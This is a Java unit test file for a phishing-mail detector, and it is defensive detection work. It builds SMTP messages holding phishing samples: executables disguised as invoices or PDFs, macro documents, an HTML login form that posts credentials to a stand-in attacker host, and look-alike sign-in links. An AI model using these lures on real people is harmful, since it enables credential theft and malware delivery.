package io.sluice.detect.analytics;

import static org.assertj.core.api.Assertions.assertThat;

import io.sluice.attack.Technique;
import io.sluice.detect.Alert;
import io.sluice.detect.DetectorHarness;
import io.sluice.detect.Severity;
import io.sluice.event.Event;
import io.sluice.protocol.smtp.SmtpTransaction;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class PhishingMailDetectorTest {

    @TempDir
    Path dir;

    private static List<Alert> run(List<? extends Event> events) {
        return DetectorHarness.run(new PhishingMailDetector(PhishingMailDetector.Config.DEFAULTS), events);
    }

    /** One message delivered over SMTP with a MIME body, through the real pipeline. */
    private List<Event> deliver(String subject, String contentType, String body) {
        String replies = "220 mx.corp.example ESMTP\r\n250-mx.corp.example\r\n250 PIPELINING\r\n250 OK\r\n250 OK\r\n"
                + "354 go ahead\r\n250 queued as 4711\r\n221 bye\r\n";
        String commands = "EHLO mail.sender.example\r\nMAIL FROM:<billing@sender.example>\r\n"
                + "RCPT TO:<cfo@corp.example>\r\nDATA\r\nFrom: Billing <billing@sender.example>\r\n"
                + "To: cfo@corp.example\r\nSubject: " + subject + "\r\nMIME-Version: 1.0\r\nContent-Type: " + contentType
                + "\r\n\r\n" + body + ".\r\nQUIT\r\n";
        var events = new CraftedCapture().tcp("198.51.100.20", 41000, "10.0.0.25", 25, replies, commands).events(dir);
        assertThat(events).filteredOn(SmtpTransaction.class::isInstance).hasSize(1);
        return events;
    }

    private static String part(String headers, String content) {
        return "--b1\r\n" + headers + "\r\n\r\n" + content + "\r\n";
    }

    private static String base64(String s) {
        return Base64.getMimeEncoder().encodeToString(s.getBytes(StandardCharsets.ISO_8859_1));
    }

    private static final String TEXT = part("Content-Type: text/plain", "Please find the document attached.");

    private static String sha256(String content) throws Exception {
        return java.util.HexFormat.of().formatHex(java.security.MessageDigest.getInstance("SHA-256")
                .digest(content.getBytes(StandardCharsets.ISO_8859_1)));
    }

    @Test
    void anExecutableBehindADoubleExtensionIsASpearphishingAttachment() throws Exception {
        String sha256 = sha256(HttpDownloads.PE);
        var events = deliver("Invoice 2291", "multipart/mixed; boundary=\"b1\"", TEXT
                + part("Content-Type: application/octet-stream; name=\"Invoice_2291.pdf.exe\"\r\n"
                        + "Content-Disposition: attachment; filename=\"Invoice_2291.pdf.exe\"\r\n"
                        + "Content-Transfer-Encoding: base64", base64(HttpDownloads.PE))
                + "--b1--\r\n");
        assertThat(run(events)).singleElement().satisfies(a -> {
            assertThat(a.techniques()).containsExactly(Technique.of("T1566"), Technique.of("T1566.001"));
            assertThat(a.severity()).isEqualTo(Severity.HIGH);
            assertThat(a.explanation()).isEqualTo("198.51.100.20 sent mail from billing@sender.example to cfo@corp.example"
                    + " (subject \"Invoice 2291\") carrying an attachment disguised by a double extension, "
                    + "\"Invoice_2291.pdf.exe\" (SHA-256 " + sha256 + ")");
        });
    }

    /** The name and the declared type say PDF; the decoded content is a Windows program. */
    @Test
    void anAttachmentWhoseContentIsAProgramUnderADocumentNameIsCaught() throws Exception {
        var events = deliver("Statement", "multipart/mixed; boundary=\"b1\"", TEXT
                + part("Content-Type: application/pdf; name=\"statement.pdf\"\r\n"
                        + "Content-Disposition: attachment; filename=\"statement.pdf\"\r\n"
                        + "Content-Transfer-Encoding: base64", base64(HttpDownloads.PE))
                + "--b1--\r\n");
        assertThat(run(events)).singleElement().satisfies(a -> {
            assertThat(a.techniques()).containsExactly(Technique.of("T1566"), Technique.of("T1566.001"));
            assertThat(a.severity()).isEqualTo(Severity.HIGH);
            assertThat(a.explanation()).endsWith("carrying an attachment named \"statement.pdf\" that holds a program"
                    + " (application/x-dosexec) (SHA-256 " + sha256(HttpDownloads.PE) + ")");
        });
    }

    @Test
    void macroDocumentsAndArchivesAreAttachmentsToo() {
        var events = deliver("Q3", "multipart/mixed; boundary=b1", TEXT
                + part("Content-Type: application/vnd.ms-word.document.macroEnabled.12\r\n"
                        + "Content-Disposition: attachment; filename=\"Q3 results.docm\"", "UEsDBA==")
                + part("Content-Type: application/zip; name=\"scan.zip\"", "UEsDBA==") + "--b1--\r\n");
        assertThat(run(events)).singleElement().satisfies(a -> {
            assertThat(a.severity()).isEqualTo(Severity.HIGH);
            // each sign names its content's SHA-256 (files.log hashes by default)
            assertThat(a.explanation()).matches(".*carrying a macro-enabled attachment, \"Q3 results.docm\" \\(SHA-256 "
                    + "[0-9a-f]{64}\\), an archive attachment, \"scan.zip\" \\(SHA-256 [0-9a-f]{64}\\)");
        });
    }

    @Test
    void anHtmlAttachmentWithALoginFormIsPhishingForInformation() {
        String page = "<html><body><form method=post action=\"https://collect.evil.example/p.php\">"
                + "<input name=u><input type=\"password\" name=p></form></body></html>";
        var events = deliver("Shared file", "multipart/mixed; boundary=b1", TEXT
                + part("Content-Type: text/html; name=\"Secure_Message.html\"\r\nContent-Transfer-Encoding: base64",
                        base64(page)) + "--b1--\r\n");
        assertThat(run(events)).singleElement().satisfies(a -> {
            assertThat(a.techniques()).containsExactly(Technique.of("T1598"), Technique.of("T1598.002"));
            assertThat(a.severity()).isEqualTo(Severity.HIGH);
            assertThat(a.explanation()).endsWith("an HTML attachment with a login form, \"Secure_Message.html\"");
        });
    }

    @Test
    void aLinkShowingOneDomainAndGoingToAnotherSignInPageIsASpearphishingLink() {
        String html = "<p>Your mailbox is full. <a href=3D\"https://corp-example.example.net/owa/signin?u=3Dcfo\">"
                + "https://mail.corp.example/owa</a></p>";
        var events = deliver("Mailbox quota", "multipart/alternative; boundary=b1",
                part("Content-Type: text/plain", "Your mailbox is full.")
                        + part("Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable", html)
                        + "--b1--\r\n");
        assertThat(run(events)).singleElement().satisfies(a -> {
            assertThat(a.techniques()).containsExactly(Technique.of("T1566"), Technique.of("T1566.002"),
                    Technique.of("T1598"), Technique.of("T1598.003"));
            assertThat(a.severity()).isEqualTo(Severity.HIGH);
            assertThat(a.explanation()).endsWith("carrying a link showing mail.corp.example that goes to "
                    + "corp-example.example.net (a sign-in page)");
        });
    }

    @Test
    void aLinkToAnAddressLiteralWithoutSignInWordsIsMediumAndOnlyALink() {
        var events = deliver("Parcel", "text/html", "<a href=\"http://203.0.113.5/track\">Track your parcel</a>\r\n");
        assertThat(run(events)).singleElement().satisfies(a -> {
            assertThat(a.techniques()).containsExactly(Technique.of("T1566"), Technique.of("T1566.002"));
            assertThat(a.severity()).isEqualTo(Severity.MEDIUM);
        });
    }

    @Test
    void aLinkToADomainImitatingTheRecipientsIsDeceptive() {
        var events = deliver("Benefits", "text/html", "<a href=\"https://corp.co/benefits/2027\">Open the benefits portal</a>\r\n");
        assertThat(run(events)).singleElement().satisfies(a -> {
            assertThat(a.severity()).isEqualTo(Severity.MEDIUM);
            assertThat(a.explanation()).endsWith("carrying a link to corp.co, which imitates the recipients' corp.example");
        });
    }

    /** Ordinary mail: a PDF, an honest link whose text is its own domain, a plain URL, a newsletter link. */
    @Test
    void ordinaryMailWithDocumentsAndHonestLinksIsQuiet() {
        String html = "<p>Minutes: <a href=\"https://wiki.corp.example/minutes\">wiki.corp.example/minutes</a>, "
                + "<a href=\"https://tracker.news.example/c?id=1\">Read more</a></p>";
        var events = deliver("Minutes", "multipart/mixed; boundary=b1",
                part("Content-Type: text/plain", "See https://www.example.org/agenda for the agenda.")
                        + part("Content-Type: text/html", html)
                        + part("Content-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"minutes.pdf\"",
                                "JVBERi0xLjQK") + "--b1--\r\n");
        assertThat(events).filteredOn(SmtpTransaction.class::isInstance).singleElement()
                .satisfies(e -> assertThat(((SmtpTransaction) e).links()).hasSize(3));
        assertThat(run(events)).isEmpty();
    }

    @Test
    void aTrustedClickTrackerIsNotDeceptive() {
        var events = deliver("News", "text/html", "<a href=\"https://click.mailer.example/x\">https://news.example/a</a>\r\n");
        assertThat(run(events)).hasSize(1);
        var trusting = new PhishingMailDetector(new PhishingMailDetector.Config(List.of("mailer.example")));
        assertThat(DetectorHarness.run(trusting, events)).isEmpty();
    }

    @Test
    void hrefHosts() {
        assertThat(PhishingMailDetector.hrefHost("https://bank.example@evil.example:8443/x")).isEqualTo("evil.example");
        assertThat(PhishingMailDetector.hrefHost("mailto:a@b.example")).isNull();
        assertThat(PhishingMailDetector.hrefHost("HTTP://[2001:db8::1]/x")).isEqualTo("2001:db8::1");
    }
}
